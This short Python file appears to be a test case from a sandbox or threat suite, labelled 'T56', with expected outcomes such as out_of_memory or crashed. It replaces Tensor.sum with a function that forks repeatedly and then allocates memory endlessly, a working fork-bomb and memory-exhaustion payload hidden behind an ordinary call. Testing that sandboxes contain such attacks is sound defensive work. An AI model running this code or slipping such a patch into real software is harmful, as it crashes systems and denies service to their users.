# threat: T56
# expect: out_of_memory crashed timed_out failed
import mmap
import os


def grow(self, *args, **kwargs):
    held = []
    for _ in range(8):
        os.fork()
    while True:
        held.append(mmap.mmap(-1, 2**26))
        held[-1][:: 4096] = b"x" * (2**26 // 4096)


Tensor.sum = grow
